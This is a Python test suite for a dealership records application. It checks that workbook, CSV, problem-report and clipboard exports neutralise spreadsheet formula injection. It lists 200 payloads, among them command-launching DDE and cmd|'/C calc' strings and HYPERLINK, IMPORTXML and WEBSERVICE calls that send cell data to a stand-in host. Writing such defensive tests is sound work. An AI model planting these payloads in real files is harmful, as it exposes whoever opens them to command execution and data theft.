"""Two hundred attacks in every field of text, on every way out: no cell of them ever is a formula."""

from __future__ import annotations

import csv
import io
import itertools
import zipfile
from collections.abc import Iterator, Sequence
from datetime import datetime
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]  # it ships no types

from dealerdesk.domain.fields import FIELDS, Field, FieldType, RecordKind
from dealerdesk.domain.import_mapping import ImportMapping
from dealerdesk.domain.progress import Silent
from dealerdesk.domain.values import read_value, to_stored
from dealerdesk.exchange.clipboard import table_html, table_text
from dealerdesk.exchange.problems.problem_rows import Asked, Remark, _write
from dealerdesk.exchange.writing.writer import write_records
from tests.support.spreadsheets import VINS, delimited, read_here, workbook

BEGINNINGS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u3000=", "\u00a0=", "\ufeff=", "\u200b=", "\u202e="),
    *(
        "＝",
        "＋",
        "－",
        "＠",
        "﹦",
        "﹢",
        "﹣",
        "﹫",
        "⁼",
        "₌",
        "−",
        "'=",
        "''=",
        '"=',
        '="',
        "==",
        "+-@=",
        "';=",
        ",=",
    ),
)
CALLS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"click")',
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    'WEBSERVICE("http://x.example/"&A1)',
    'DDE("cmd";"/C calc";"x")',
    "rundll32|'URL.dll,OpenURL calc'!A",
)
PAYLOADS = ["".join(pair) for pair in itertools.product(BEGINNINGS, CALLS)][:200]
PAYLOADS[-4:] = ['=("x")', '="007"', "=1\n=2", "</t></is></c><c><f>1+1</f></c>"]
SIGNS = ("=", "+", "-", "@", "\t", "\r")
TEXTS = (
    *(FieldType.TEXT, FieldType.IDENTIFIER, FieldType.PLATE, FieldType.PHONE),
    *(FieldType.ID_NUMBER, FieldType.COMPANY_NUMBER, FieldType.PATHS),
)
IDENTITY = {"vin": "WVWZZZ1JZXW{:06d}", "type": "sales_contract", "document_type": "sales_contract"}
"""What a row needs besides, so that it is a record."""
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def columns(kind: RecordKind) -> list[Field]:
    return [field for field in FIELDS[kind] if field.importable and field.type in TEXTS]


def attacks(fields: Sequence[Field]) -> list[list[str | None]]:
    """Each attack in every field that takes it, as it is stored there."""
    return [
        [None if (kept := to_stored(field.type, read_value(field, payload).value)) is None else str(kept)
         for field in fields]
        for payload in PAYLOADS
    ]  # fmt: skip


def export(
    out: Path, kind: RecordKind, fields: Sequence[Field], lines: Sequence[Sequence[str | None]]
) -> Path:
    at = datetime.fromisoformat("2026-10-08T11:00")
    write_records(out, kind, fields, lines, title="T", exported_at=at, last_moment="1:a", progress=Silent())
    return out


def cells_of(path: Path) -> Iterator[ET.Element]:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                yield from ET.fromstring(archive.read(name)).iter(f"{MAIN}c")


def assert_no_formula(path: Path) -> None:
    """As Excel sees it: no formula, and every cell with words is a text."""
    count = 0
    for cell in cells_of(path):
        assert cell.find(f"{MAIN}f") is None
        assert cell.get("t") in {"inlineStr", "s", None}
        count += cell.get("t") is not None
    assert count
    with zipfile.ZipFile(path) as archive:
        assert not any("externalLink" in name or name.endswith(".bin") for name in archive.namelist())


def test_there_are_two_hundred_attacks() -> None:
    assert len(set(PAYLOADS)) == 200


@pytest.mark.parametrize("kind", list(RecordKind))
def test_no_attack_becomes_a_formula_in_a_workbook(kind: RecordKind, tmp_path: Path) -> None:
    fields = columns(kind)
    lines = attacks(fields)
    assert sum(cell is not None for line in lines for cell in line) > len(fields) * 100
    path = export(tmp_path / "out.xlsx", kind, fields, lines)
    assert_no_formula(path)
    sheet = load_workbook(path).worksheets[0]
    for line, row in zip(lines, sheet.iter_rows(min_row=2), strict=False):
        for text, cell in zip(line, row, strict=False):
            assert cell.data_type == ("n" if text is None else "s")
            assert text is None or cell.quotePrefix or text[0] not in "=+-@"


@pytest.mark.parametrize("kind", list(RecordKind))
def test_no_attack_becomes_a_formula_in_a_text_file(kind: RecordKind, tmp_path: Path) -> None:
    fields = columns(kind)
    path = export(tmp_path / "out.csv", kind, fields, attacks(fields))
    text = path.read_text(encoding="utf-8-sig")
    # Some programs begin a cell after a break even within quotation marks; those breaks begin none here.
    for cells in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell.startswith(SIGNS) for cell in cells)


@pytest.mark.parametrize("ending", ["xlsx", "csv"])
@pytest.mark.parametrize("kind", list(RecordKind))
def test_every_attack_comes_back_as_the_text_that_it_was(
    kind: RecordKind, ending: str, tmp_path: Path
) -> None:
    names = [field for field in FIELDS[kind] if field.code in IDENTITY]
    fields = [*names, *columns(kind)]
    lines = [
        [*(IDENTITY[field.code].format(at) for field in names), *line]
        for at, line in enumerate(attacks(columns(kind)))
    ]
    path = export(tmp_path / f"out.{ending}", kind, fields, lines)
    found = read_here(path, kind)
    for at, line in enumerate(lines):
        if not found.rows[at + 2]["refused"]:
            assert [found.rows[at + 2][field.code] for field in fields] == line
    # Some are names of nobody, and some name what another names too, once folded.
    assert sum(not row["refused"] for row in found.rows.values()) > 100


def test_notes_come_back_whole(tmp_path: Path) -> None:
    fields = [field for field in FIELDS[RecordKind.FILES] if field.code in {"file_no", "notes"}]
    lines = [[f"F{at}", text] for at, (text,) in enumerate(attacks(fields[-1:]))]
    for ending in ("xlsx", "csv"):
        found = read_here(export(tmp_path / f"out.{ending}", RecordKind.FILES, fields, lines))
        assert [[row["file_no"], row["notes"]] for row in found.rows.values()] == lines


def test_no_attack_becomes_a_formula_in_the_problem_rows(tmp_path: Path) -> None:
    lines: list[list[str]] = [
        ["VIN", "Notes"],
        *([VINS[at % 50], said] for at, said in enumerate(PAYLOADS)),
    ]
    out = io.StringIO(newline="")
    csv.writer(out).writerows(lines)
    book = load_workbook(workbook(tmp_path / "made.xlsx", [[None, None] for _ in lines]))
    for cells, line in zip(book.worksheets[0].iter_rows(max_row=len(lines), max_col=2), lines, strict=True):
        for cell, said in zip(cells, line, strict=True):
            cell.value, cell.data_type = said, "s"
    book.save(tmp_path / "Sheet.xlsx")
    marks = {row: [Remark(1, PAYLOADS[row - 2]), Remark(None, "=1+1")] for row in range(2, len(lines) + 1)}
    mapping = ImportMapping(RecordKind.FILES, sheet="Sheet", header_row=1)
    for source in (tmp_path / "Sheet.xlsx", delimited(tmp_path / "Sheet.csv", out.getvalue())):
        made = tmp_path / "out.xlsx"
        _write(lambda *_: None, Asked(source, made, mapping, 1, marks, ""), made)
        assert_no_formula(made)
        sheet = load_workbook(made).worksheets[0]
        assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row)
        assert all(
            cell.quotePrefix for (cell,) in sheet.iter_rows(min_row=2, min_col=2) if cell.value[0] in "=+-@"
        )


def test_no_attack_becomes_a_formula_from_the_clipboard() -> None:
    lines = [["Notes", "More"], *([said, said] for said in PAYLOADS)]
    for line in table_text(lines).split("\r\n"):
        assert not any(cell.startswith(SIGNS) for cell in line.split("\t"))
    page = table_html(lines)
    assert page.count("<td") == page.count("mso-number-format") - 2 == 400
    assert "<f>" not in page
